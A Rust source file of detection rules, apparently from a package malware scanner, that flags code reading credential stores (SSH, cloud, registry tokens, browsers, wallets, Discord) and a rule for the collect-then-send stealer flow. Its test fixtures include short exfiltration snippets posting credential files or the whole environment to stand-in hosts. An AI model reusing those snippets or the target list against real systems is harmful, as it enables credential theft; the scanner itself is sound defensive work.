//! Credential harvesting: reads of credential stores. Each rule is one
//! store ("category"); a read alone is weak (tools read their own config),
//! several stores joined with a network send in one file is the stealer
//! shape (`heuristic/credentials-exfil`, raised in [`crate::flows`]).

use crate::rule::{Family, Langs, Rule, Target, derived, fires, pattern, quiet};
use chainwarden_core::{Confidence, Severity};

const F: Family = Family::Credentials;
const WHY_READ: &str = "Stealers read credential stores and send them away; a package that reads \
a store it has no business with is suspicious, several stores at once is the stealer pattern.";

pub const SSH: Rule = pattern(
    "heuristic/credentials-ssh",
    F,
    Severity::Low,
    Confidence::Medium,
    "References SSH private keys or the ~/.ssh folder",
    WHY_READ,
    Langs::ALL,
    Target::Strings,
    r"(?i)(?:\.ssh(?:[/\\]|\s|$)|\bid_(?:rsa|dsa|ecdsa|ed25519)\b)",
    &[
        fires("a.py", "open(os.path.expanduser('~/.ssh/id_rsa')).read()"),
        fires("a.js", "fs.readFileSync(path.join(os.homedir(), '.ssh'))"),
        quiet("a.py", "# read ~/.ssh/id_rsa\nx = 1"),
        quiet("a.py", "sshd_config = '/etc/ssh/sshd_config'"),
    ],
);

pub const AWS: Rule = pattern(
    "heuristic/credentials-aws",
    F,
    Severity::Info,
    Confidence::Medium,
    "References the AWS credentials or config file",
    WHY_READ,
    Langs::ALL,
    Target::Strings,
    r"(?i)\.aws[/\\](?:credentials|config)\b",
    &[
        fires("a.py", "p = '~/.aws/credentials'"),
        quiet("a.py", "\"\"\"Reads ~/.aws/credentials.\"\"\""),
    ],
);

pub const GCLOUD: Rule = pattern(
    "heuristic/credentials-gcloud",
    F,
    Severity::Info,
    Confidence::Medium,
    "References Google Cloud credential files",
    WHY_READ,
    Langs::ALL,
    Target::Strings,
    r"(?i)(?:\.config[/\\]gcloud\b|application_default_credentials\.json)",
    &[
        fires(
            "a.py",
            "p = '~/.config/gcloud/application_default_credentials.json'",
        ),
        quiet("a.py", "gcloud = 1"),
    ],
);

pub const AZURE: Rule = pattern(
    "heuristic/credentials-azure",
    F,
    Severity::Info,
    Confidence::Medium,
    "References Azure CLI credential files",
    WHY_READ,
    Langs::ALL,
    Target::Strings,
    r"(?i)(?:\.azure[/\\](?:accessTokens\.json|msal_token_cache|azureProfile\.json)|\.azure[/\\]?$)",
    &[
        fires("a.py", "p = '~/.azure/accessTokens.json'"),
        quiet("a.py", "p = 'azure'"),
    ],
);

pub const KUBE: Rule = pattern(
    "heuristic/credentials-kube",
    F,
    Severity::Info,
    Confidence::Medium,
    "References a Kubernetes kubeconfig",
    WHY_READ,
    Langs::ALL,
    Target::Strings,
    r"(?i)\.kube[/\\]config\b",
    &[
        fires("a.js", "const p = `${home}/.kube/config`;"),
        quiet("a.py", "KUBECONFIG = os.environ.get('KUBECONFIG')"),
    ],
);

pub const DOCKER: Rule = pattern(
    "heuristic/credentials-docker",
    F,
    Severity::Info,
    Confidence::Medium,
    "References the Docker registry credentials file",
    WHY_READ,
    Langs::ALL,
    Target::Strings,
    r"(?i)\.docker[/\\]config\.json",
    &[
        fires("a.py", "p = '~/.docker/config.json'"),
        quiet("a.py", "p = 'docker-compose.yml'"),
    ],
);

pub const PACKAGE_TOKENS: Rule = pattern(
    "heuristic/credentials-package-tokens",
    F,
    Severity::Low,
    Confidence::Medium,
    "References registry or git tokens (.npmrc, .pypirc, .git-credentials, .netrc)",
    WHY_READ,
    Langs::ALL,
    Target::Strings,
    r"(?i)(?:^|[\s/\\~])(?:\.npmrc|\.pypirc|\.git-credentials|\.netrc|_netrc)\b",
    &[
        fires("a.js", "fs.readFileSync(home + '/.npmrc')"),
        fires("a.py", "open(os.path.join(home, '.pypirc'))"),
        quiet("a.py", "npmrc = None"),
    ],
);

pub const DOTENV: Rule = pattern(
    "heuristic/credentials-dotenv",
    F,
    Severity::Info,
    Confidence::Low,
    "References a `.env` file",
    WHY_READ,
    Langs::ALL,
    Target::Strings,
    r"(?m)(?:^|[\s/\\])\.env(?:\s|$)",
    &[
        fires("a.py", "open('.env').read()"),
        quiet("a.py", "x = 'a.environment'"),
        quiet("a.py", "x = '.envrc'"),
    ],
);

pub const SHELL_HISTORY: Rule = pattern(
    "heuristic/credentials-shell-history",
    F,
    Severity::Low,
    Confidence::Medium,
    "References shell history files",
    WHY_READ,
    Langs::ALL,
    Target::Strings,
    r"(?i)\.(?:bash|zsh|sh|psql|mysql|python)_history\b|ConsoleHost_history\.txt",
    &[
        fires("a.py", "h = '~/.bash_history'"),
        quiet("a.py", "history = []"),
    ],
);

pub const BROWSER: Rule = pattern(
    "heuristic/credentials-browser",
    F,
    Severity::Medium,
    Confidence::Medium,
    "References browser profile secrets (saved passwords, cookies, keys)",
    "Browser password and cookie stores are a stealer's main target; libraries almost never read them.",
    Langs::ALL,
    Target::Strings,
    r"(?i)(?:Login Data|Local State|\bkey[34]\.db\b|\blogins\.json\b|cookies\.sqlite|Google[/\\]+Chrome[/\\]+User Data|BraveSoftware[/\\]+Brave-Browser|Mozilla[/\\]+Firefox[/\\]+Profiles|Microsoft[/\\]+Edge[/\\]+User Data)",
    &[
        fires(
            "a.py",
            "p = os.path.join(os.environ['LOCALAPPDATA'], 'Google\\\\Chrome\\\\User Data', 'Default', 'Login Data')",
        ),
        quiet("a.py", "login_data = {}"),
    ],
);

pub const WALLET: Rule = pattern(
    "heuristic/credentials-wallet",
    F,
    Severity::Medium,
    Confidence::Medium,
    "References cryptocurrency wallet files or wallet browser extensions",
    "Wallet stealing is a common payload of malicious packages.",
    Langs::ALL,
    Target::Strings,
    r"(?i)(?:\bwallet\.dat\b|\bExodus[/\\]|\bElectrum[/\\]+wallets|\bAtomic[/\\]+Local Storage|nkbihfbeogaeaoehlefnkodbefgpgknn|\.ethereum[/\\]+keystore|solana[/\\]+id\.json|\bMetaMask\b)",
    &[
        fires("a.py", "p = appdata + '/Electrum/wallets'"),
        fires("a.js", "const ext = 'nkbihfbeogaeaoehlefnkodbefgpgknn';"),
        quiet("a.py", "wallet = Wallet()"),
    ],
);

pub const DISCORD: Rule = pattern(
    "heuristic/credentials-discord",
    F,
    Severity::Medium,
    Confidence::Medium,
    "Looks for Discord tokens (Discord leveldb folders or the token regex)",
    "Discord token grabbers are among the most common malicious packages.",
    Langs::ALL,
    Target::Strings,
    r"(?i)(?:discord(?:canary|ptb)?[/\\]+Local Storage[/\\]+leveldb|\[\\w-\]\{24(?:,26)?\}|dQw4w9WgXcQ:)",
    &[
        fires(
            "a.py",
            "path = roaming + '\\\\discord\\\\Local Storage\\\\leveldb'",
        ),
        fires(
            "a.py",
            "re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', line)",
        ),
        quiet("a.py", "import discord\nclient = discord.Client()"),
    ],
);

pub const ENV_DUMP: Rule = pattern(
    "heuristic/credentials-env-dump",
    F,
    Severity::Low,
    Confidence::Medium,
    "Serialises the whole environment (os.environ / process.env)",
    "Dumping every environment variable captures API keys and tokens; a library reads the few it needs.",
    Langs::PY_JS,
    Target::Code,
    r"(?:(?:json\.dumps|str|repr|b64encode|urlencode|dumps)\s*\(\s*(?:dict\s*\(\s*)?os\.environ\b\s*(?:\)|,)|(?:data|json|params)\s*=\s*(?:dict\s*\(\s*)?os\.environ\b\s*[,)]|JSON\.stringify\s*\(\s*process\.env\s*[,)]|(?:body|data)\s*:\s*process\.env\b)",
    &[
        fires(
            "a.py",
            "requests.post(u, data=json.dumps(dict(os.environ)))",
        ),
        fires("a.js", "req.write(JSON.stringify(process.env));"),
        quiet(
            "a.py",
            "env = os.environ.copy()\nsubprocess.run(cmd, env=env)",
        ),
        quiet("a.js", "const k = process.env.API_KEY;"),
    ],
);

pub const CLOUD_METADATA: Rule = pattern(
    "heuristic/credentials-cloud-metadata",
    F,
    Severity::Info,
    Confidence::Low,
    "References the cloud instance metadata endpoint",
    "The metadata endpoint hands out instance credentials; SDKs use it legitimately, stealers too.",
    Langs::ALL,
    Target::Strings,
    r"(?i)(?:169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200)",
    &[
        fires("a.py", "u = 'http://169.254.169.254/latest/meta-data/iam/'"),
        quiet("a.py", "u = 'http://10.0.0.1/'"),
    ],
);

pub const EXFIL: Rule = derived(
    "heuristic/credentials-exfil",
    F,
    Severity::High,
    Confidence::Medium,
    "Reads several credential stores and sends data over the network in the same file",
    "The stealer flow: collect credentials, then send them. One store plus a request is \
common in SDKs; several stores (or a browser/wallet/Discord store) with a network send is not.",
    &[
        fires(
            "a.py",
            "import requests\nT = ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.kube/config']\nrequests.post('https://x.example/c', data=[open(p).read() for p in T])\n",
        ),
        fires(
            "a.js",
            "const d = fs.readFileSync(home + '/.npmrc');\nhttps.request({host: 'x'}).end(JSON.stringify(process.env));\n",
        ),
        quiet(
            "a.py",
            "import requests\ncfg = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.get('https://sts.amazonaws.com/')\n",
        ),
        fires(
            "a.py",
            "import requests\ncfg = open(os.path.join(home, '.aws/credentials')).read()\nrequests.post('https://eo1.m.pipedream.net', data=cfg)\n",
        ),
        quiet(
            "a.py",
            "cfg = open(os.path.join(home, '.aws/credentials')).read()\nHOOK = 'https://eo1.m.pipedream.net'\n",
        ),
    ],
)
.refs(&[
    "https://attack.mitre.org/techniques/T1552/001/",
    "Vu, Newman, Meyers: Bad Snakes: Understanding and Improving Python Package Index Malware Scanning (ICSE 2023)",
]);

pub const RULES: &[Rule] = &[
    SSH,
    AWS,
    GCLOUD,
    AZURE,
    KUBE,
    DOCKER,
    PACKAGE_TOKENS,
    DOTENV,
    SHELL_HISTORY,
    BROWSER,
    WALLET,
    DISCORD,
    ENV_DUMP,
    CLOUD_METADATA,
    EXFIL,
];

/// How much a read of each store counts toward the exfil flow.
pub(crate) fn category_weight(rule_id: &str) -> f32 {
    match rule_id {
        "heuristic/credentials-ssh" | "heuristic/credentials-shell-history" => 2.0,
        "heuristic/credentials-browser"
        | "heuristic/credentials-wallet"
        | "heuristic/credentials-discord" => 3.0,
        "heuristic/credentials-env-dump" => 2.0,
        "heuristic/credentials-package-tokens" => 1.5,
        "heuristic/credentials-aws"
        | "heuristic/credentials-gcloud"
        | "heuristic/credentials-azure"
        | "heuristic/credentials-kube"
        | "heuristic/credentials-docker" => 1.0,
        "heuristic/credentials-dotenv" | "heuristic/credentials-cloud-metadata" => 0.5,
        _ => 0.0,
    }
}
